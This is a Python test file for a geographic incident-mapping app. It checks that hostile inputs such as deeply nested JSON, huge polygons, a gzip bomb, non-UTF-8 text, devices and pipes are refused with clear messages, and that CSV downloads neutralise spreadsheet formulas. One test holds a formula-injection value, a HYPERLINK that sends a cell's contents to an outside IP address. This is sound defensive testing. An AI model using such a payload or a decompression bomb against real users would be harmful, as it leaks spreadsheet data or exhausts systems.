"""Hostile and careless files: each gets one clear message (or a row-level reason), fast.

Snapshots without properties or geometry, bad dates and counts, JSON nested 2,000 levels, a
polygon of a million vertices, a million-row CSV, a gzip bomb named .csv, UTF-16 and Latin-1
text, GeoJSON members GDAL would drop silently, garbage CRSs, devices and pipes, and a convert
that would overwrite its input or write to a missing folder or a full disk.
"""

from __future__ import annotations

import errno
import gzip
import json
import os
import sys
import time
from pathlib import Path

import pandas as pd
import pytest
from streamlit.testing.v1 import AppTest

from geo import __main__ as cli
from geo.export import SNAPSHOT_FORMAT, SnapshotError, read_snapshot
from geo.importers import ImportFileError, import_incidents
from geo.importers._source import MAX_ROWS
from geo.importers.vector import MAX_JSON_DEPTH
from geo.spreadsheet import neutralise_formulas, safe_csv
from tests.conftest import ROOT, as_text

APP = str(ROOT / "app.py")
FIXTURES = ROOT / "tests" / "fixtures" / "imports"
HEADER = "date,lat,lon,place,province,group,killed\n"
GOOD_ROW = "2025-03-11,29.6,67.5,Mach,Balochistan,BLA,3\n"


def feature(**changes) -> dict:
    properties = {
        "incident_id": "T-1",
        "start": "2025-03-11T00:00:00",
        "end": "2025-03-11T23:59:59",
        "date_precision": "day",
        "place": "Mach",
        "geo_precision": "exact",
        "event_type": "Battles",
        "groups": "BLA",
        "sources": [],
    }
    out = {
        "type": "Feature",
        "geometry": {"type": "Point", "coordinates": [67.5, 29.6]},
        "properties": properties,
    }
    for key, value in changes.items():
        if key in out:
            out[key] = value
        else:
            properties[key] = value
    return out


def snapshot(*features, **metadata) -> bytes:
    collection = {
        "type": "FeatureCollection",
        "metadata": {"format": SNAPSHOT_FORMAT, **metadata},
        "features": list(features),
    }
    return json.dumps(collection).encode()


# --- Snapshots -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("collection", "expected"),
    [
        (
            snapshot({"type": "Feature", "geometry": None}),
            "feature 1 has properties null, expected an object",
        ),
        (
            snapshot(feature(geometry=None)),
            "feature 1 (T-1): geometry is null, expected a Point",
        ),
        (
            snapshot(feature(geometry={"type": "Point", "coordinates": ["x", 1e400]})),
            "feature 1 (T-1): Point coordinates [x, inf] are not a longitude -180..180",
        ),
        (
            snapshot(feature(start="2025-13-45")),
            "incident T-1: start '2025-13-45' is not a date (expected ISO 8601, e.g. 2025-03-11T09:00:00, between 1678 and 2261)",
        ),
        (
            snapshot(feature(end="9999-12-31")),
            "incident T-1: end '9999-12-31' is not a date (expected ISO 8601",
        ),
        (
            snapshot(feature(fatalities_high=1e20)),
            "incident T-1: fatalities_high '1e+20' is not a count (expected a whole number 0 to 10,000,000, or null)",
        ),
        (
            snapshot(feature(), feature(incident_id="T-2", injured_low="lots")),
            "snapshot has 1 problem(s) in 2 feature(s): incident T-2: injured_low 'lots' is not a count",
        ),
        (
            json.dumps({"type": "FeatureCollection", "metadata": {"format": SNAPSHOT_FORMAT}, "features": {}}).encode(),
            "not a snapshot: features is a dict, expected a list of Features",
        ),
        (
            b'{"metadata": {"format": "' + SNAPSHOT_FORMAT.encode() + b'"}, "x": ' + b"[" * 2000 + b"]" * 2000 + b"}",
            "snapshot is not valid: JSON nested 2,001 levels deep (at most 64)",
        ),
        (b'{"a": "\xe9"}', "snapshot is not JSON (not UTF-8 text: byte 0xe9 at 7)"),
        (b"[1, 2", "snapshot is not JSON (Expecting ',' delimiter at line 1, column 6)"),
    ],
    ids=[
        "no-properties", "null-geometry", "bad-coordinates", "bad-date", "date-out-of-range",
        "fatalities-1e20", "bad-count", "features-not-list", "deep-nesting", "not-utf8", "truncated",
    ],
)  # fmt: skip
def test_a_malformed_snapshot_gets_one_message_naming_the_problem(collection, expected):
    with pytest.raises(SnapshotError) as raised:
        read_snapshot(collection)
    assert expected in str(raised.value)
    assert "Traceback" not in str(raised.value)


def test_snapshot_filters_as_a_list_or_bad_values_keep_the_incidents_and_name_the_filter():
    read = read_snapshot(snapshot(feature(), filters=["groups", "BLA"]))
    assert len(read.incidents) == 1
    assert read.problems == ("filters must be a mapping of names to values, not a list",)
    read = read_snapshot(snapshot(feature(), filters={"groups": ["BLA"], "start": "soon"}))
    assert read.filters.groups == ("BLA",)
    assert read.problems == ("filter start='soon' is not valid (expected a date YYYY-MM-DD)",)


def test_a_device_or_pipe_is_refused_before_reading(tmp_path):
    with pytest.raises(SnapshotError, match="zero: not a regular file"):
        read_snapshot("/dev/zero")
    pipe = tmp_path / "pipe.geojson"
    os.mkfifo(pipe)
    started = time.monotonic()
    with pytest.raises(SnapshotError, match="pipe.geojson: not a regular file"):
        read_snapshot(pipe)
    assert time.monotonic() - started < 2


@pytest.mark.parametrize(
    ("name", "data", "expected"),
    [
        (
            "no-properties",
            snapshot({"type": "Feature", "geometry": None}),
            "feature 1 has properties null, expected an object",
        ),
        ("null-geometry", snapshot(feature(geometry=None)), "geometry is null, expected a Point"),
        ("bad-date", snapshot(feature(start="yesterday")), "start 'yesterday' is not a date"),
    ],
)
def test_the_app_opens_on_a_malformed_snapshot_with_a_message(
    monkeypatch, tmp_path, name, data, expected
):
    path = tmp_path / f"{name}.geojson"
    path.write_bytes(data)
    monkeypatch.setattr(sys, "argv", ["app.py", "--snapshot", str(path)])
    at = AppTest.from_file(APP, default_timeout=90).run()
    assert not at.exception
    errors = [as_text(e.value) for e in at.error]
    assert errors and errors[0].startswith("Could not open the file given on the command line: ")
    assert expected in errors[0]


def test_a_snapshot_with_rail_km_500_and_filters_as_a_list_opens(monkeypatch, tmp_path):
    path = tmp_path / "rail.geojson"
    path.write_bytes(snapshot(feature(), filters={"rail_km": 500, "groups": ["BLA"]}))
    monkeypatch.setattr(sys, "argv", ["app.py", "--snapshot", str(path)])
    at = AppTest.from_file(APP, default_timeout=90).run()
    assert not at.exception
    assert at.sidebar.slider(key="f_rail_km").value == 100.0
    assert at.sidebar.multiselect(key="f_groups").value == ["BLA"]
    path.write_bytes(snapshot(feature(), filters=["rail_km", 500]))
    at = AppTest.from_file(APP, default_timeout=90).run()
    assert not at.exception
    warning = as_text(at.sidebar.warning[0].value)
    assert "filters must be a mapping of names to values, not a list" in warning


@pytest.mark.parametrize("path", ["/dev/zero"])
def test_the_app_refuses_a_device_as_incidents(monkeypatch, path):
    monkeypatch.setattr(sys, "argv", ["app.py", "--incidents", path])
    started = time.monotonic()
    at = AppTest.from_file(APP, default_timeout=90).run()
    assert time.monotonic() - started < 60
    assert not at.exception
    assert as_text(at.error[0].value) == (
        "Could not open the file given on the command line: zero: not a regular file "
        "(a device, named pipe or folder); not reading it"
    )


# --- Imported files ------------------------------------------------------------------------


def test_a_million_row_csv_is_refused_in_seconds():
    data = (HEADER + GOOD_ROW * 1_000_000).encode()
    started = time.monotonic()
    with pytest.raises(ImportFileError) as raised:
        import_incidents(data, name="million.csv")
    assert time.monotonic() - started < 5
    assert str(raised.value) == (
        f"million.csv: the file has 1,000,001 lines, more than the {MAX_ROWS:,} rows one import "
        "may hold; split it, or filter it to the area and years you need"
    )


def test_a_polygon_of_millions_of_vertices_is_refused_before_parsing():
    ring = "[" + ",".join(["[67.1,29.2]"] * 1_100_000) + "]"
    data = (
        '{"type":"FeatureCollection","features":[{"type":"Feature","properties":{},'
        f'"geometry":{{"type":"Polygon","coordinates":[{ring}]}}}}]}}'
    ).encode()
    started = time.monotonic()
    with pytest.raises(
        ImportFileError, match="about 1,100,00[0-9] coordinate positions, more than the 1,000,000"
    ):
        import_incidents(data, name="poly.geojson")
    assert time.monotonic() - started < 10


def test_json_nested_2000_levels_is_refused():
    data = b'{"type":"FeatureCollection","features":' + b"[" * 2000 + b"]" * 2000 + b"}"
    with pytest.raises(ImportFileError) as raised:
        import_incidents(data, name="deep.geojson")
    assert str(raised.value) == (
        f"deep.geojson: JSON nested 2,001 levels deep; GeoJSON needs at most {MAX_JSON_DEPTH} "
        "(a file this deep is not geographic data)"
    )


def test_a_gzip_bomb_renamed_csv_is_refused_unopened():
    data = gzip.compress(b"0" * 50_000_000)
    with pytest.raises(ImportFileError, match="bomb.csv: this is a gzip archive; unpack it first"):
        import_incidents(data, name="bomb.csv")


def test_utf16_with_a_bom_is_read_and_latin1_gets_a_message():
    text = HEADER + "2025-03-11,29.6,67.5,Māch é,Balochistan,BLA,3\n"
    result = import_incidents(text.encode("utf-16"), name="u16.csv")
    assert result.kept == 1 and result.incidents["place"].iloc[0] == "Māch é"
    latin = (HEADER + "2025-03-11,29.6,67.5,Mach é,Balochistan,BLA,3\n").encode("latin-1")
    with pytest.raises(ImportFileError) as raised:
        import_incidents(latin, name="latin.csv")
    assert str(raised.value) == (
        "latin.csv: not UTF-8 text (byte 0xe9 on line 2); re-save it as UTF-8 "
        "(in Excel: Save As 'CSV UTF-8')"
    )


def test_fatalities_1e20_is_a_rejected_row_not_a_crash():
    data = (HEADER + GOOD_ROW + "2025-03-12,29.6,67.5,Mach,Balochistan,BLA,1e20\n").encode()
    result = import_incidents(data, name="huge.csv")
    assert result.kept + len(result.rejected) == 2
    assert result.kept == 1
    assert result.rejected["reason"].iloc[0] == "fatalities '1e20' is over 10,000,000, not a count"


def test_a_file_of_exactly_the_cap_passes_the_size_check_and_one_byte_more_does_not():
    data = (HEADER + GOOD_ROW).encode()
    assert import_incidents(data, name="cap.csv", max_bytes=len(data)).kept == 1
    with pytest.raises(ImportFileError, match="larger than the"):
        import_incidents(data + b"\n", name="cap.csv", max_bytes=len(data))


def test_geojson_members_that_are_not_features_are_rejected_in_place():
    members = [
        {"type": "Feature", "geometry": {"type": "Point", "coordinates": [67.5, 29.6]}, "properties": {"date": "2025-03-11", "place": "A"}},
        {"type": "Point", "coordinates": [67.5, 29.6]},
        {"type": "Featur", "geometry": {"type": "Point", "coordinates": [67.5, 29.6]}, "properties": {"date": "2025-03-11", "place": "B"}},
        {"type": "Feature", "geometry": {"type": "Point", "coordinates": [67.6, 29.7]}, "properties": {"date": "2025-03-12", "place": "C"}},
    ]  # fmt: skip
    data = json.dumps({"type": "FeatureCollection", "features": members}).encode()
    result = import_incidents(data, name="members.geojson")
    assert result.kept == 2
    rejected = result.rejected.set_index("line")["reason"].to_dict()
    assert rejected == {
        2: "member 2 of features has type 'Point', expected 'Feature'",
        3: "member 3 of features has type 'Featur', expected 'Feature'",
    }
    assert sorted(result.incidents["place"]) == ["A", "C"]


@pytest.mark.parametrize("crs", ["garbage", "urn:ogc:def:crs:EPSG::999999", 42])
def test_a_garbage_crs_is_refused(crs):
    data = json.dumps(
        {
            "type": "FeatureCollection",
            "crs": {"type": "name", "properties": {"name": crs}},
            "features": [feature()],
        }
    ).encode()
    with pytest.raises(ImportFileError) as raised:
        import_incidents(data, name="crs.geojson")
    assert f"crs.geojson: the crs member {str(crs)!r} is not a coordinate reference system" in str(
        raised.value
    )


def test_a_known_crs_member_is_still_read():
    data = json.dumps(
        {
            "type": "FeatureCollection",
            "crs": {"type": "name", "properties": {"name": "urn:ogc:def:crs:OGC:1.3:CRS84"}},
            "features": [feature()],
        }
    ).encode()
    assert import_incidents(data, name="crs84.geojson").kept == 1


# --- CSV downloads ---------------------------------------------------------------------------


def test_csv_downloads_neutralise_spreadsheet_formulas():
    frame = pd.DataFrame(
        {
            "text": ["=HYPERLINK(\"http://198.51.100.7/?\"&A1,\"x\")", "+1", "-2", "@SUM(A1)", "\tx", "\rx", "plain", "a=b"],
            "number": [-1.5, 2, 3, 4, 5, 6, 7, 8],
        }
    )  # fmt: skip
    out = neutralise_formulas(frame)
    assert list(out["text"]) == ["'=HYPERLINK(\"http://198.51.100.7/?\"&A1,\"x\")", "'+1", "'-2", "'@SUM(A1)", "'\tx", "'\rx", "plain", "a=b"]  # fmt: skip
    assert list(out["number"]) == [-1.5, 2, 3, 4, 5, 6, 7, 8]
    assert safe_csv(pd.DataFrame({"=cmd": ["x"]})).startswith(b"'=cmd\n")


def test_the_rejected_rows_csv_is_neutralised():
    data = (
        HEADER + '2025-03-11,29.6,67.5,"=HYPERLINK(""http://x"")",Balochistan,BLA,lots\n'
    ).encode()
    result = import_incidents(data, name="formula.csv")
    lines = result.rejected_csv().decode().splitlines()
    assert lines[0] == "line,reason,raw"
    assert all(
        not cell.startswith(("=", "+", "-", "@")) for line in lines for cell in line.split(",")
    )
    assert "'2025-03-11" not in lines[1]  # ordinary cells are untouched


# --- python -m geo convert --------------------------------------------------------------------


def test_convert_refuses_to_overwrite_its_input(tmp_path, capsys):
    source = tmp_path / "good.csv"
    source.write_bytes((FIXTURES / "acled_2024.csv").read_bytes())
    before = source.read_bytes()
    for output in (source, tmp_path / "." / "good.csv"):
        assert cli.main(["convert", str(source), str(output)]) == 1
        assert capsys.readouterr().err.strip() == (
            f"error: the output {output} is the input file; choose another name (nothing written)"
        )
    assert source.read_bytes() == before


def test_convert_names_a_missing_output_folder(tmp_path, capsys):
    output = tmp_path / "missing" / "out.geojson"
    assert cli.main(["convert", str(FIXTURES / "acled_2024.csv"), str(output)]) == 1
    assert capsys.readouterr().err.strip() == (
        f"error: the output folder {output.parent} does not exist; create it first"
    )


def test_convert_on_a_full_disk_says_so_and_leaves_nothing(tmp_path, capsys, monkeypatch):
    output = tmp_path / "out.geojson"

    def full(self, data):
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setattr(Path, "write_bytes", full)
    assert cli.main(["convert", str(FIXTURES / "acled_2024.csv"), str(output)]) == 1
    err = capsys.readouterr().err.strip().splitlines()[-1]
    assert err == f"error: could not write {output}: No space left on device; nothing written"
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("kind", ["device", "pipe"])
def test_convert_refuses_devices_and_pipes_unread(tmp_path, capsys, kind):
    source = Path("/dev/zero")
    if kind == "pipe":
        source = tmp_path / "pipe.csv"
        os.mkfifo(source)
    assert cli.main(["convert", str(source), str(tmp_path / "o.geojson")]) == 1
    assert capsys.readouterr().err.strip() == (
        f"error: {source}: not a regular file (a device, named pipe or folder); not reading it"
    )
